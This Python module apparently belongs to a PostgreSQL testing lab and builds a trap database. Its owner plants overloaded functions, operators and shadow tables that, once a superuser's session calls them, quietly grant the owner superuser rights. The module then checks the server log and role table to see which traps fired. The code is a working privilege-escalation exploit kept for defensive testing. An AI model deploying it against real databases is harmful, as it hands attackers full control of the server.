"""A database whose owner lies in wait for superusers: overloads of all that the lab calls, made from the catalogs.

An overload with better-fitting argument types goes before pg_catalog's function though pg_catalog is searched first.
One with the same types does so where another schema is searched before pg_catalog. Each overload writes to the server's
log, and makes its owner a superuser where it can.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pgtrial
from pgtrial.loads.target import Target
from pgtrial.servers.cluster import Cluster

OWNER = "mallory"
DATABASE = "trap"
FIRED = "an overload ran"

_BODY = f"""BEGIN
    RAISE LOG '{FIRED}: %', pg_catalog.current_setting('application_name');
    IF pg_catalog.current_setting('is_superuser') OPERATOR(pg_catalog.=) 'on' THEN
        EXECUTE 'ALTER ROLE {OWNER} SUPERUSER';
    END IF;
    RETURN NULL;
END"""

_ROWS = ("pg_database", "pg_stat_database", "pg_stat_bgwriter", "pg_stat_activity", "pg_locks", "pg_class")
_ANY = ("text", "name", "oid", "int4", "int8", "regclass", '"char"', *(f"pg_catalog.{row}" for row in _ROWS))
_OTHERS = {
    "text": ("name", "varchar"),
    "name": ("text", "varchar"),
    "oid": ("regclass", "int4", "int8", "regprocedure"),
    "int4": ("int8", "int2", "oid"),
    "int8": ("int4", "numeric"),
    "float8": ("int4", "int8", "numeric"),
    "numeric": ("int8", "int4", "float8"),
    "regclass": ("oid", "text"),
    '"char"': ("text", "name"),
    "boolean": (),
    **dict.fromkeys(("any", '"any"', "anyelement", "record", "anycompatible"), _ANY),
    **dict.fromkeys(("anyarray", "anycompatiblearray"), ("text[]", "name[]", "oid[]", "int4[]", "int2vector")),
}
"""For each type of a parameter, other types of arguments that PostgreSQL accepts for it. A function declared for such a
type is preferred when it fits the argument exactly.
"""
_MOST_ARGUMENTS = 5

_OPERANDS = ("text", "name", "oid", "int4", "int8", '"char"', "regclass", "boolean", "timestamptz", "numeric", "xid")
_ARRAYS = ("text[]", "name[]", "oid[]")

_WORDS = re.compile(r"\b([a-z_][a-z0-9_]*)\(")

_FUNCTIONS = """SELECT p.proname,
        ARRAY(SELECT format_type(t, NULL) FROM unnest(p.proargtypes) WITH ORDINALITY AS a (t, n) ORDER BY n),
        CASE WHEN p.proretset OR r.typtype = 'p' THEN 'text' ELSE format_type(p.prorettype, NULL) END
    FROM pg_proc p JOIN pg_type r ON r.oid = p.prorettype
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY (%s) AND p.pronargs BETWEEN 0 AND %s"""
_OPERATORS = """SELECT DISTINCT oprname FROM pg_operator
    WHERE oprname = ANY ('{=,<>,<,>,<=,>=,~,!~,~~,!~~,||,+,-,/,*,->>}') AND oprkind = 'b'"""
_SHADOWS = """SELECT relname FROM pg_class
    WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND relname = ANY (%s)"""


def lab_words() -> list[str]:
    """Returns all words that look like a call or a catalog in the texts of the lab."""
    words: set[str] = set()
    for file in Path(pgtrial.__file__).parent.rglob("*"):
        if file.suffix in (".py", ".toml"):
            text = file.read_text()
            words.update(_WORDS.findall(text), re.findall(r"\bpg_\w+", text))
    return sorted(words)


def lie_in_wait(cluster: Cluster, path: str = '"$user", public') -> Target:
    """Makes a database and its owner, and returns the target with which superusers connect to it. `path` is the search
    path of all its sessions.
    """
    with cluster.target.connect_as_user() as session:
        session.execute(f"CREATE ROLE {OWNER} LOGIN".encode())
        session.execute(f"CREATE DATABASE {DATABASE} OWNER {OWNER}".encode())
    trap = replace(cluster.target, dbname=DATABASE)
    with trap.connect_as_user() as session:
        session.execute(f"GRANT CREATE ON SCHEMA public TO {OWNER}".encode())
    with replace(trap, user=OWNER).connect() as session:
        words = lab_words()
        functions = session.execute(_FUNCTIONS, (words, _MOST_ARGUMENTS)).fetchall()
        operators = [name for (name,) in session.execute(_OPERATORS).fetchall()]
        shadows = [name for (name,) in session.execute(_SHADOWS, (words,)).fetchall()]
        texts = [*_functions(functions), *_operators(operators)]
        if path.startswith("public"):
            texts += [f"CREATE TABLE public.{name} (nothing int)" for name in shadows]
        for text in dict.fromkeys(texts):
            made = f"DO $do$ BEGIN EXECUTE $made${text}$made$; EXCEPTION WHEN OTHERS THEN NULL; END $do$"
            session.execute(made.encode())
        session.execute(f"ALTER DATABASE {DATABASE} SET search_path = {path}".encode())
    return trap


def _functions(found: Sequence[tuple[str, list[str], str]]) -> Iterator[str]:
    for name, types, result in found:
        for arguments in [types, *_better(types)]:
            yield _function(f'public."{name}"', arguments, result)


def _better(types: Sequence[str]) -> Iterator[list[str]]:
    """Yields lists of a function's parameter types with one or two of them replaced, for overloads that PostgreSQL
    would prefer.
    """
    choices = [_OTHERS.get(one, ()) for one in types]
    for place, others in enumerate(choices):
        for other in others:
            yield [*types[:place], other, *types[place + 1 :]]
    for one, two in itertools.combinations(range(len(types)), 2):
        for first, second in itertools.product(choices[one][:3], choices[two][:3]):
            changed = list(types)
            changed[one], changed[two] = first, second
            yield changed


def _function(name: str, arguments: Sequence[str], result: str) -> str:
    return f"CREATE FUNCTION {name}({', '.join(arguments)}) RETURNS {result} LANGUAGE plpgsql AS $body${_BODY}$body$"


def _operators(names: Sequence[str]) -> Iterator[str]:
    pairs = [*itertools.product(_OPERANDS, _OPERANDS), *itertools.product(_ARRAYS, _ARRAYS)]
    for number, (left, right) in enumerate(pairs):
        yield _function(f"public.operator_{number}", [left, right], "boolean")
        for name in names:
            yield (
                f"CREATE OPERATOR public.{name} (LEFTARG = {left}, RIGHTARG = {right}, "
                f"PROCEDURE = public.operator_{number})"
            )


def is_superuser(cluster: Cluster) -> bool:
    """True if the owner of the database has become a superuser."""
    with cluster.target.connect() as session:
        row = session.execute("SELECT rolsuper FROM pg_roles WHERE rolname = %s", (OWNER,)).fetchone()
        return bool(row and row[0])


def fired(cluster: Cluster) -> list[str]:
    """Returns the traps that have run so far, in any session, by the application_name of the session."""
    log = cluster.data_directory.with_suffix(".log").read_text()
    return [line.rpartition(f"{FIRED}: ")[2] for line in log.splitlines() if FIRED in line]
